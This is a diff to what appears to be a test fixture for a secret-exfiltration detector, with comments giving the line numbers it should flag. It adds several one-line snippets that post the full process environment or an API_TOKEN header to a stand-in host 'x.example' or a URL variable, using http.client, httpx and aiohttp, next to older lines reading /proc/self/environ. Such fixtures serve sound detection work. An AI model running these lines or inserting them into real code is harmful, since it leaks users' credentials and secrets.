@@ -18,6 +18,14 @@ def send(x): requests.post(u, data=x)
 send(key)
 requests.post(u, json={'env': {**os.environ}})
 requests.post(u, files={'f': open('/proc/self/environ')})
+import http.client
+c = http.client.HTTPSConnection('x.example'); c.request('POST', '/', body=json.dumps(dict(os.environ)))
+c.send(json.dumps(dict(os.environ)).encode())
+c.request('GET', '/', headers={'Authorization': os.environ['API_TOKEN']})
+c.putheader('Authorization', os.environ['API_TOKEN'])
+with httpx.Client() as h: h.post(u, json=dict(os.environ))
+async def post():
+    async with aiohttp.ClientSession() as cs, cs.post(u, json=dict(os.environ)) as answer: pass
 # expect 3 any.secret-sent
 # expect 4 any.secret-sent
 # expect 5 any.secret-sent
@@ -32,3 +40,7 @@ requests.post(u, files={'f': open('/proc/self/environ')})
 # expect 17 any.secret-sent
 # expect 19 any.secret-sent
 # expect 20 any.credentials
+# expect 22 any.secret-sent
+# expect 23 any.secret-sent
+# expect 26 any.secret-sent
+# expect 28 any.secret-sent
